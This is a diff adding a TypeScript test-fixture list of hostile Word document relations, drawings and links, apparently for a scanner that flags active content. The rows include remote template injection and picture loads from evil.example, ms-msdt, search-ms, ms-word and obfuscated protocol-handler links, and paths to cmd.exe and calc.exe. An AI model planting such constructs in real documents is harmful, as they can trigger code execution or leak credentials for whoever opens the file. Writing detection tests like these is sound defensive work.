@@ -1,0 +1,61 @@
+import type { SampleRow } from './document-sample.ts';
+import { documentOf, field, instruction, linkTo, OFFICE, relationOf, remoteImage, run } from './word-markup.ts';
+
+/** Word documents whose relations, drawings or links load or run something. */
+export const hostileWordRelations: SampleRow[] = [
+  [
+    'picture, z:Target and z:TargetMode',
+    () => relationOf(`${remoteImage} z:Target="a" z:TargetMode="Internal"`),
+    'active',
+  ],
+  ['picture, z:TargetMode', () => relationOf(`${remoteImage} z:TargetMode="Internal"`), 'active'],
+  ['picture, z:Type', () => relationOf(`${remoteImage} z:Type="${OFFICE}/hyperlink"`), 'active'],
+  ['picture, z:Type before', () => relationOf(`z:Type="${OFFICE}/hyperlink" ${remoteImage}`), 'active'],
+  ['macros, z:Type', () => relationOf(`Type="${OFFICE}/vbaProject" Target="a.bin" z:Type="${OFFICE}/image"`), 'macros'],
+  [
+    'template, z:Target',
+    () =>
+      relationOf(
+        `Type="${OFFICE}/attachedTemplate" Target="\\\\evil.example\\s\\t.dotm" TargetMode="External" z:Target="a.dotx"`,
+        'word/_rels/settings.xml.rels',
+      ),
+    'active',
+  ],
+  [
+    'inner picture with a second target',
+    () => relationOf(`Type="${OFFICE}/image" Target="a.png" z:Target="b"`),
+    'active',
+  ],
+  // Drawings.
+  [
+    'drawing with two pictures',
+    () => documentOf(run('<w:pict><v:imagedata src="http://evil.example/a.png" z:src="a.png"/></w:pict>')),
+    'active',
+  ],
+  ['drawing that is a picture', () => documentOf('<v:image src="http://evil.example/a.png"/>'), 'active'],
+  ['drawing that is a link to a program', () => documentOf('<v:shape href="ms-msdt:/id PCWDiagnostic"/>'), 'active'],
+  // Links.
+  ...[
+    'ms-msdt:/id PCWDiagnostic',
+    'search-ms:query=x&amp;crumb=location:\\\\evil.example\\s',
+    'ms-word:ofe|u|http://evil.example/a.docm',
+    'm&#115;-officecmd:x',
+    'ms-%6Dsdt:x',
+    'ldap://evil.example/a',
+    'file:///C:/Windows/System32/cmd.exe',
+    'C:\\Windows\\System32\\calc.exe',
+  ].flatMap((target): SampleRow[] => [
+    [`link to ${target}`, () => linkTo(target), 'active'],
+    [
+      `HYPERLINK to ${target}`,
+      () => documentOf(field(instruction(`HYPERLINK "${target.replaceAll('\\', '\\\\')}"`))),
+      'active',
+    ],
+  ]),
+  ['HYPERLINK, quoted switch before', () => documentOf(field(instruction('HYPERLINK "\\o" "ms-msdt:x"'))), 'active'],
+  [
+    'HYPERLINK with a computed address',
+    () => documentOf(field(instruction('HYPERLINK "'), field(instruction('QUOTE a')), instruction('"'))),
+    'active',
+  ],
+];
